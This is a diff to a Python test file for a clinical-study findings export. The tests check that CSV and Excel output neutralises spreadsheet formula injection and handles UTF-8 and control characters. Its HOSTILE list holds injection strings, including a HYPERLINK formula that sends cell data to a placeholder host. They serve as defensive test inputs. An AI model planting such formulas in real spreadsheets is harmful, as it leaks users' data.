@@ -7,7 +7,9 @@ import openpyxl
 import pandas as pd
 
 from aclf.units import convert, harmonize_results
+from aclf.config import load_study
 from validation.export import write_findings
+from validation.listing import HEADER_ROW
 from validation.schemas import failures, form_schema
 
 HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]
@@ -24,7 +26,7 @@ def findings_with(messages: list[str]) -> pd.DataFrame:
 
 
 def test_exports_neutralise_formulas_and_open_in_excel_as_utf8(tmp_path):
-    written = write_findings(findings_with([*HOSTILE, "发热 fever"]), tmp_path, ["01"])
+    written = write_findings(findings_with([*HOSTILE, "发热 fever"]), tmp_path, load_study(), "2025-06-01")
     raw = written["csv"].read_bytes()
     assert raw.startswith(b"\xef\xbb\xbf")                                       # UTF-8 with BOM
     with written["csv"].open(encoding="utf-8-sig", newline="") as fh:
@@ -32,18 +34,18 @@ def test_exports_neutralise_formulas_and_open_in_excel_as_utf8(tmp_path):
     assert [r["message"] for r in rows[:len(HOSTILE)]] == ["'" + v for v in HOSTILE]
     assert rows[-1]["message"] == "发热 fever" and len(rows) == len(HOSTILE) + 1
     sheet = openpyxl.load_workbook(written["site01"]).active
-    header = [c.value for c in sheet[1]]
-    column = header.index("What to check") + 1
-    cells = [sheet.cell(row=r, column=column) for r in range(2, sheet.max_row + 1)]
+    header = [c.value for c in sheet[HEADER_ROW]]
+    column = header.index("Details") + 1
+    cells = [sheet.cell(row=r, column=column) for r in range(HEADER_ROW + 1, sheet.max_row + 1)]
     assert all(c.data_type == "s" for c in cells)                                 # no formula cell at all
     assert {c.value for c in cells} >= set(HOSTILE)
     assert all(c.quotePrefix for c in cells if c.value in HOSTILE)
 
 
 def test_nul_and_control_characters_do_not_stop_the_listing(tmp_path):
-    written = write_findings(findings_with(["value a\x00b", "bell\x07"]), tmp_path, ["01"])
+    written = write_findings(findings_with(["value a\x00b", "bell\x07"]), tmp_path, load_study(), "2025-06-01")
     sheet = openpyxl.load_workbook(written["site01"]).active
-    values = [c.value for c in sheet["I"][1:]]
+    values = [c.value for c in sheet["I"][HEADER_ROW:]]
     assert "value a\ufffdb" in values and "bell\ufffd" in values
     assert "a\x00b" in written["csv"].read_text(encoding="utf-8-sig")
 
